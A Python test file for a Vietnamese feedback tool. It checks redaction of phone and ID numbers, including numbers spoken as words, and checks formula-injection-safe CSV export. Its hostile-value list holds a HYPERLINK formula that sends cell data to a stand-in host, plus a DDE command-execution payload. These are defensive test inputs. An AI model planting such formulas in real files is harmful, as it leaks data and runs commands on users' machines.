"""Redaction of personal numbers (phone, CCCD, CMND) in digits and in Whisper's words, and the
spreadsheet-safe CSV export."""

from __future__ import annotations

import csv
import io
import random
import re

import pytest

from broadcast.feedback.export import (BOM, CCCD_MASK, CMND_MASK, ID_MASK, NUMBER_MASK, PHONE_MASK, csv_text,
                                       redact, spreadsheet_safe)
from broadcast.feedback.models import FeedbackItem

P, CC, CM, N = PHONE_MASK, CCCD_MASK, CMND_MASK, NUMBER_MASK

CASES = [
    # mobile numbers in digits, grouped any way
    ("Gọi cho tôi số 0912 345 678 nhé", f"Gọi cho tôi số {P} nhé"),
    ("sđt 0912345678.", f"sđt {P}."),
    ("số 091-234-5678, cảm ơn", f"số {P}, cảm ơn"),
    ("liên hệ 0987.654.321", f"liên hệ {P}"),
    ("số 0912 34 56 78", f"số {P}"),
    ("+84 912 345 678", P),
    ("+84-912-345-678", P),
    ("(+84) 912345678 là số nhà tôi", f"{P} là số nhà tôi"),
    ("84912345678", P),
    # landlines: area code in parentheses, dotted, 3- and 4-digit area codes
    ("(0213) 3876 555", P),
    ("máy bàn (024) 3825 1234 giờ hành chính", f"máy bàn {P} giờ hành chính"),
    ("0213.3876.555", P),
    ("số máy bàn 024 3825 1234", f"số máy bàn {P}"),
    ("+84 24 3825 1234", P),
    # CCCD (12 digits) and CMND (9 digits), grouped or not, with and without the word before
    ("CCCD số 001 203 004 567", f"CCCD số {CC}"),
    ("căn cước 001.203.004.567 cấp năm 2021", f"căn cước {CC} cấp năm 2021"),
    ("0012 0300 4567", CC),
    ("CCCD 001099012345, CMND 123456789", f"CCCD {CC}, CMND {CM}"),
    ("số chứng minh 123 456 789", f"số chứng minh {CM}"),
    ("CMND 012345678", f"CMND {CM}"),
    ("số căn cước công dân: 0123456789", f"số căn cước công dân: {CC}"),  # the word decides
    # read out digit by digit
    ("số của tôi là không chín một hai ba bốn năm sáu bảy tám", f"số của tôi là {P}"),
    ("Không chín tám bẩy, sáu năm bốn, ba hai một.", f"{P}."),
    ("CCCD của tôi là không không một hai không ba không không bốn năm sáu bảy", f"CCCD của tôi là {CC}"),
    ("chứng minh thư một hai ba, bốn năm sáu, bảy tám chín ạ", f"chứng minh thư {CM} ạ"),
    # in groups, hundreds and tens, with linh/lẻ, mốt, lăm, tư, chục, mười
    ("không chín một hai, ba trăm bốn mươi lăm, sáu trăm bảy mươi tám", P),
    ("số không chín mươi mốt, hai trăm ba mươi tư, năm sáu bảy tám", f"số {P}"),
    ("gọi không chín mốt hai, ba trăm linh năm, sáu trăm lẻ tám", f"gọi {P}"),
    ("không chín tám, mười hai, ba chục, bốn mươi tư, năm", P),
    ("CCCD không không một, hai trăm linh ba, không không bốn, năm trăm sáu mươi bảy", f"CCCD {CC}"),
    ("chín mươi mốt hai trăm ba mươi tư năm trăm sáu mươi bảy tám", P),  # a mobile read without its 0
    # mixed with other numbers: only the personal part goes
    ("năm 2025 0912345678", f"năm 2025 {P}"),
    ("gọi ba không chín một hai ba bốn năm sáu bảy tám", f"gọi ba {P}"),
    ("Nhà tôi mất điện, gọi 0912345678, CCCD 001099012345", f"Nhà tôi mất điện, gọi {P}, CCCD {CC}"),
    ("gọi 0912345678 đồng chí Hà", f"gọi {P} đồng chí Hà"),
    ("zalo_0912345678.m4a", f"zalo_{P}.m4a"),
    ("số tài khoản 1903 4567 8901 23", f"số tài khoản {N}"),
    ("CMND 123456789 tỉnh Lai Châu cấp", f"CMND {CM} tỉnh Lai Châu cấp"),  # "tỉnh" is not "tỉ"
    ("123 456 789 Đồng Nai cấp", f"{CM} Đồng Nai cấp"),  # a place, not money
    ("CCCD 001203004567 và 1.500.000.000 đồng", f"CCCD {CC} và 1.500.000.000 đồng"),
    # not personal: counts, years, dates, times, amounts, house numbers, short service numbers
    ("hai mươi lăm hộ bị ngập", None),
    ("năm 2026", None),
    ("năm 2025 có 1.500.000 đồng hỗ trợ cho 3 hộ ngày 15/12", None),
    ("một triệu năm trăm nghìn đồng", None),
    ("hai trăm ba mươi tư triệu năm trăm sáu mươi bảy nghìn tám trăm chín mươi đồng", None),
    ("15.000.000.000 đồng", None),
    ("dự án 123.456.789 đ", None),
    ("ngày 15/12/2025 lúc 08:00", None),
    ("ngày mười lăm tháng mười hai năm hai nghìn không trăm hai mươi lăm", None),
    ("2099-12-14T08:00:00+07:00", None),
    ("số nhà 123, tổ 4, gọi 113 hoặc 114", None),
    ("một trăm linh năm hộ, mười hai người", None),
    ("Tôi không biết, ba tôi không có nhà", None),
    ("các năm 2023, 2024, 2025", None),
]


@pytest.mark.parametrize("text, expected", CASES)
def test_redact(text, expected):
    assert redact(text) == (text if expected is None else expected)


def test_redact_twice_is_redact_once():
    for text, _ in CASES:
        once = redact(text)
        assert redact(once) == once, text


def test_masks_and_empty():
    assert ID_MASK in (CCCD_MASK, CMND_MASK)
    assert len({PHONE_MASK, CCCD_MASK, CMND_MASK, NUMBER_MASK}) == 4
    assert redact(None) is None and redact("") == ""
    for mask in (PHONE_MASK, CCCD_MASK, CMND_MASK, NUMBER_MASK):
        assert redact(mask) == mask


# --- generated numbers ------------------------------------------------------------------------
DIGIT = ["không", "một", "hai", "ba", "bốn", "năm", "sáu", "bảy", "tám", "chín"]
UNIT_AFTER_TENS = {"1": ["mốt", "một"], "4": ["tư", "bốn"], "5": ["lăm", "nhăm"], "7": ["bảy", "bẩy"]}


def unit(d: str, rng: random.Random) -> str:
    return rng.choice(UNIT_AFTER_TENS.get(d, [DIGIT[int(d)]]))


def tens_words(pair: str, rng: random.Random) -> str:
    """Two digits as Whisper may write them: 'chín mươi mốt', 'mười hai', 'không năm', 'ba lăm'."""
    a, b = pair
    if a == "0":
        return f"không {DIGIT[int(b)]}"
    head = "mười" if a == "1" else f"{DIGIT[int(a)]} {rng.choice(['mươi', 'mươi', 'chục'])}"
    if b == "0":
        return head
    if a != "1" and rng.random() < 0.3:
        return f"{DIGIT[int(a)]} {unit(b, rng)}"  # "chín mốt": mươi left out
    return f"{head} {unit(b, rng) if b != '1' or a != '1' else 'một'}"


def hundreds_words(triple: str, rng: random.Random) -> str:
    """Three digits: 'ba trăm bốn mươi lăm', 'một trăm linh năm', 'hai trăm'."""
    h, rest = DIGIT[int(triple[0])] + " trăm", triple[1:]
    if rest == "00":
        return h
    if rest[0] == "0":
        return f"{h} {rng.choice(['linh', 'lẻ'])} {DIGIT[int(rest[1])]}"
    return f"{h} {tens_words(rest, rng)}"


def spoken(digits: str, rng: random.Random) -> str:
    """The number read out: digit by digit, or in groups of 2–4 each read as digits, tens or
    hundreds, groups set apart by commas (Whisper's pauses)."""
    groups, i = [], 0
    while i < len(digits):
        size = rng.choice([2, 3, 3, 4])
        groups.append(digits[i:i + size])
        i += size
    out, as_numbers = [], False
    for g in groups:
        if len(g) in (2, 3) and rng.random() < 0.5:
            out.append(hundreds_words(g, rng) if len(g) == 3 else tens_words(g, rng))
            as_numbers = True
        else:
            out.append(" ".join(DIGIT[int(d)] for d in g))
    return ", ".join(out) if as_numbers else rng.choice([", ", " ", ". "]).join(out)


def written(digits: str, rng: random.Random, plus: bool = False) -> str:
    """The number in digits, grouped by spaces, dots or dashes."""
    if plus:
        digits = digits[1:]
    sep = rng.choice(["", " ", ".", "-"])
    groups, i = [], 0
    while i < len(digits):
        size = rng.choice([2, 3, 4])
        groups.append(digits[i:i + size])
        i += size
    text = sep.join(groups)
    return (rng.choice(["+84 ", "+84-", "(+84) "]) + text) if plus else text


def numbers(rng: random.Random):
    for _ in range(150):
        yield "0" + rng.choice("35789") + "".join(rng.choices("0123456789", k=8)), PHONE_MASK
        yield "02" + "".join(rng.choices("0123456789", k=9)), PHONE_MASK
        yield "0" + f"{rng.randint(1, 96):02d}" + "".join(rng.choices("0123456789", k=9)), CCCD_MASK
        yield rng.choice("0123") + "".join(rng.choices("0123456789", k=8)), CMND_MASK


def test_generated_numbers_leave_no_digits_behind():
    rng = random.Random(2026)
    long_digits = re.compile(r"\d(?:[\s.\-()+]*\d){8}")
    for digits, mask in numbers(rng):
        for shown in (written(digits, rng), spoken(digits, rng)):
            text = f"Nhà tôi ở thôn 3, số của tôi là {shown} nhé"
            out = redact(text)
            assert out == f"Nhà tôi ở thôn 3, số của tôi là {mask} nhé", (digits, shown, out)
            assert not long_digits.search(out) and redact(out) == out
        if mask == PHONE_MASK:
            out = redact(f"gọi {written(digits, rng, plus=True)}")
            assert out == f"gọi {PHONE_MASK}", (digits, out)


# --- CSV for spreadsheets ---------------------------------------------------------------------
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
           "\tcmd", "\r=1+1", "=cmd|' /C calc'!A0", "bình thường", "", "a=b", "'đã có dấu nháy"]


@pytest.mark.parametrize("value", HOSTILE)
def test_spreadsheet_safe(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe == (f"'{value}" if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value)


def item(i: int, value: str) -> FeedbackItem:
    return FeedbackItem(id=i, source_name=value, sha256="a" * 64, stored_path="store/x.m4a",
                        received_at="2099-12-14T08:00:00+07:00", duration=2.0, language="vi", transcript=value,
                        segments=[], corrected_transcript=value, announcement_id=value, area=value,
                        status="new", tags=[value], reviewer=value, note=value, backend=None, model=None,
                        created_at="2099-12-14T08:00:00+07:00", updated_at="2099-12-14T08:00:00+07:00",
                        version=1)


@pytest.mark.parametrize("redacted", [False, True])
def test_csv_cells_never_start_a_formula(redacted):
    text = csv_text([item(i, v) for i, v in enumerate(HOSTILE, 1)], redacted=redacted)
    assert text.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert len(rows) == len(HOSTILE)
    for value, r in zip(HOSTILE, rows):
        for column, cell in r.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        if not redacted:
            assert r["source_name"] == r["note"] == r["reviewer"] == spreadsheet_safe(value)
    if redacted:
        assert rows[1]["transcript"] == PHONE_MASK and rows[1]["source_name"] == PHONE_MASK
    else:
        assert rows[1]["transcript"] == "'+84 912 345 678"
